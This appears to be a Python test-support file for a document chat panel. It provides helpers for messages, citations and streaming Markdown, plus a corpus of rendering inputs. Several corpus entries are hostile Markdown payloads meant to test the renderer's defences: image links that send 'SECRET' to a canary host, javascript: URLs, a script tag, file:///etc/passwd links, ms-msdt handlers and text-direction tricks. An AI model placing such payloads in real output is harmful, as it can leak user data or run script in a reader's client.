"""Messages and documents for tests of the conversation."""

from datetime import UTC, datetime

from workbench.domain.citations import parse_citations
from workbench.domain.conversations import CheckedCitation, Message, MessageState, Role
from workbench.domain.documents import Document
from workbench.domain.quotation import Check, Verdict
from workbench.ui.chat.citing import CitationFilter
from workbench.ui.chat.growing import GrowingMarkdown
from workbench.ui.chat.markdown import make_parser

NOON = datetime(2026, 11, 21, 12, tzinfo=UTC)


def document(identity="report", name="Annual report.pdf", pages=84, roman=2, **facts):
    """A PDF whose first `roman` pages are not numbered, so page 43 is printed 41."""
    labels = tuple("i" * n for n in range(1, roman + 1))
    labels += tuple(str(n) for n in range(1, pages - roman + 1))
    return Document(
        id=identity,
        workspace_id="default",
        path=f"/home/ann/{name}",
        name=name,
        size=1,
        mime_type="application/pdf",
        added_at=NOON,
        page_count=pages,
        page_labels=labels,
        **facts,
    )


def question(identity="q", text="What did it cost?", **facts):
    return _message(identity, Role.QUESTION, text, **facts)


def answer(identity="a", text="", thoughts="", **facts):
    parts = ({"text": thoughts, "thought": True},) if thoughts else ()
    return _message(identity, Role.ANSWER, text, parts, **facts)


def _message(identity, role, text, before=(), **facts):
    return Message(
        id=identity,
        conversation_id=facts.pop("conversation_id", "c"),
        parent_id=facts.pop("parent_id", ""),
        role=role,
        state=facts.pop("state", MessageState.COMPLETE),
        created_at=facts.pop("created_at", NOON),
        parts=(*before, {"text": text}) if text else tuple(before),
        **facts,
    )


def judged(text, *verdicts, document_id="report", found=None):
    """The citations of a text with verdicts in order; None leaves one unjudged."""
    citations = parse_citations(text, final=True).citations
    checks = [
        Check(verdict, found if verdict is Verdict.ELSEWHERE else citation.page)
        if verdict
        else None
        for verdict, citation in zip(verdicts, citations, strict=True)
    ]
    return tuple(
        CheckedCitation(citation, document_id, check)
        for citation, check in zip(citations, checks, strict=True)
    )


class Reader:
    """Reads an answer piece by piece, as the panel does."""

    def __init__(self, citations=(), documents=None):
        self.citations = CitationFilter()
        self.citations.judge(tuple(citations), documents or {})
        self.growing = GrowingMarkdown(make_parser(), self.citations.cited)

    def read(self, text, final=False):
        self.growing.feed(self.citations.take(text, final), final)
        return [*self.growing.finished, *self.growing.tail()]


def blocks_of(text, citations=(), documents=None):
    return Reader(citations, documents).read(text, final=True)


# Ordinary and hostile Markdown; every prefix of it is drawn in tests.
CORPUS = (
    "# Title\n\nPlain **bold *both*** `code` and ~~gone~~.\nNext line  \nbroken line.\n",
    "1. one\n2. two\n   - nested\n\n     loose\n3. three\n\n1. other list\n",
    "- [ ] open\n- [x] done\n\n> quote\n> > deeper\nlazy\n\nafter\n",
    "| a | b |\n|--:|:-:|\n| 1 | 2 |\n| `|` | x |\n\nafter the table\n",
    "```python\nx = 1\n  y\n```\n\n~~~\nother fence\n~~~\n",
    "- item\n\n  ```\n  code in a list\n  ```\n- next\n\n    indented code\n",
    "Setext\n===\n\nSecond\n---\n\n***\n\ntext\n",
    'Said "the exact words" [[1, p. 43: "the exact words"]]. And [[1, p. 44: "other words"]].\n',
    'Two [[1, p. 43: "first words here"; 1, p. 44: "second words here"]] in one.\n',
    'An open one [[1, p. 43: "never closed\n\nnext paragraph\n',
    "![alt](http://canary.invalid/?d=SECRET) and ![b](file:///etc/passwd)\n",
    "![](//host/share/x.png) ![](data:image/png;base64,AAAA)\n",
    '<img src="http://canary.invalid/x"><script>alert(1)</script>\n\n<b>bold?</b>\n',
    "[x](javascript:alert(1)) [y](file:///etc/passwd) [z](smb://h/s)\n",
    "<ms-msdt:/id> [w](data:text/html,x) <vscode:open>\n",
    "[a]: http://canary.invalid/\n\n![ref][a] and [link][a]\n\n[b]: javascript:x\n",
    "[good](https://example.com/page?q=1) <https://example.com> <mailto:ann@example.com>\n",
    "&lt;img src=x&gt; &#x3C;b&#x3E; \\<i\\>\n",
    "\u202eevil\u202c \x1b[31mred \U000e0041 \ufffc \ue0000\ue001\n",
    "[![pic](http://canary.invalid/a)](javascript:alert(1)) ![a ![b](x)](http://canary.invalid/b)\n",
    "Inline $x^2$, \\(y_1\\) and $$z = 1$$; it cost $5 to $10, or ($m) and ($bn).\n\n",
    "before\n$$\n\\frac{a}{b} * ![x](http://canary.invalid/f)\n$$\nafter\n\n",
    "\\[\nx = 1\n\\]\n\n\\begin{align}\na &= b\n\\end{align}\n\n- $$q$$\n> $r$\n\n",
    "$$\nnever closed # *x*\n# ![y](http://canary.invalid/g)\n\nnext\n\n",
    "$$ x $$ and more\n\n\\[1\\] Source\n\n| $a$ | \\(b\\) |\n|---|---|\n| $c$ | $5 |\n\n",
    "next paragraph\n$$\nnever closed # *x*\n\n> quote\n\\[\nlazy\n\n- item\n$$\nx\n\n",
    "Noted[^1] and[^x y] [^a](https://example.com).\n\n[^1]: *First* note\n[^2]: second\nmore\n\n",
    '- Said [[1, p. 43: "over\n  two lines"]].\n- [[1, p. 44: "open\n- item\n',
    '> Said [[1, p. 43: "over\n> two lines"]].\n> > [[1, p. 44: "open\n> out\n\n',
    'Code:\n\n    [[1, p. 43: "words in code"]]\n\n[[1, p. 44: "words in text"]]\n',
    "[^1]: note\n\n    second *part*\n\n    - item\n\n[^2]:\n    other\n    > quote\n\n",
    "```\nopen to the end\n\nstill [x](javascript:y)\n",
)
